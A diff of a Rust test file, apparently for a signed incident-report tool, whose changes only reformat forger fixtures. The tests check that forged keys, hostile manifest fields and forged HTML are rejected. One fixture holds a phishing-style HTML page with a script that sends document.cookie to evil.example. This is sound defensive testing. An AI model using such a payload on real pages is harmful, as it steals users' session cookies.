@@ -277,8 +277,9 @@ fn swap_keys(text: &str, with: &str) -> String {
 fn forged_signer_pub_fails_in_sandyk_and_with_stock_tools() {
     let p = Parties::new();
     let (def_fp, def_pub) = defender_key(&p);
-    let forger =
-        Forger::new(r#"[{"title":"Forged incident","occurred":"2026-11-27","category":"other","narrative":"forged"}]"#);
+    let forger = Forger::new(
+        r#"[{"title":"Forged incident","occurred":"2026-11-27","category":"other","narrative":"forged"}]"#,
+    );
     let mut files = forger.template();
     // The forger's VERIFY.txt: any key it names becomes the forger's own.
     let forger_key: String = forger
@@ -466,7 +467,9 @@ fn hostile_manifest_fields_are_refused_without_echo() {
 #[test]
 fn forged_report_html_is_never_extracted_as_the_report() {
     let p = Parties::new();
-    let forger = Forger::new(r#"[{"title":"Real title","occurred":"2026-11-27","category":"other","narrative":"real"}]"#);
+    let forger = Forger::new(
+        r#"[{"title":"Real title","occurred":"2026-11-27","category":"other","narrative":"real"}]"#,
+    );
     let mut files = forger.template();
     let forged = b"<!DOCTYPE html><html><body><h1>Urgent: log in to read</h1>\
         <script>fetch('http://evil.example/x?'+document.cookie)</script>\
@@ -504,7 +507,8 @@ fn forged_report_html_is_never_extracted_as_the_report() {
 #[test]
 fn svg_and_html_attachments_are_never_linked_or_inlined() {
     let p = Parties::new();
-    let forger = Forger::new(r#"[{"title":"With files","occurred":"2026-11-27","category":"other"}]"#);
+    let forger =
+        Forger::new(r#"[{"title":"With files","occurred":"2026-11-27","category":"other"}]"#);
     let o = forger.env.run(&["list"], &[PASS], b"");
     let id = stdout(&o).split_whitespace().next().unwrap().to_owned();
     let svg = forger.work.join("map.svg");
